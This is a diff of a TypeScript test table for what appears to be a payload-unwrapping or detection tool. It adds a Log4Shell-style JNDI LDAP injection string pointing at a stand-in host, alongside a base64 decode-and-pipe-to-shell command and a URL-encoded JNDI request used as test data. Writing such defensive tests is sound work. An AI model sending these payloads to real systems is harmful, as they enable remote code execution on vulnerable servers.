@@ -25,6 +25,7 @@ test('undoes what payloads are wrapped in', () => {
   const table: [payload: string | Buffer, path: string, inside: string][] = [
     [`echo ${base64(script)} | base64 -d | sh`, 'base64', script],
     [`{"x":"${Buffer.from(script).toString('base64url')}"}`, 'base64', script],
+    [`\${jndi:ldap://192.0.2.9:1389/TomcatBypass/Command/Base64/${base64(script)}}`, 'base64', script],
     [`echo ${Buffer.from(script).toString('hex')} | xxd -r -p`, 'hex', script],
     [
       'GET /?a=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D HTTP/1.1',
